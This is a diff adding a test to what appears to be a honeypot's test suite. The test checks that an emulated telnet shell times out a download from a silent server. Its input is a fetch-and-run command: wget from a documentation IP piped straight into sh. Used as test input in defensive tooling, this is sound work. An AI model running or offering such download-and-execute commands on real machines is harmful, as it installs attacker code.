@@ -90,3 +90,15 @@ def test_each_sensor_tells_its_own_story_and_always_the_same(tmp_path):
     _SENSORS.clear()  # as after a restart: read back from the data directory
     assert hostname(tmp_path / "a") == first
     assert len(set(other + [first])) > 1
+
+
+def test_a_download_from_a_silent_server_fails_after_the_configured_time():
+    w = World(bot_policy="shell", shell_net_timeout=2.0)
+    bot, t = shell(w)
+    bot.telnet_data(b"wget http://198.51.100.9/x -O- | sh; echo done\r\n")
+    w.clock.advance(0)
+    assert t.value().endswith(b"(198.51.100.9:80)\r\n")
+    w.clock.advance(1.9)
+    assert b"done" not in t.value()
+    w.clock.advance(0.2)
+    assert t.value().endswith(b"done\r\n# ")
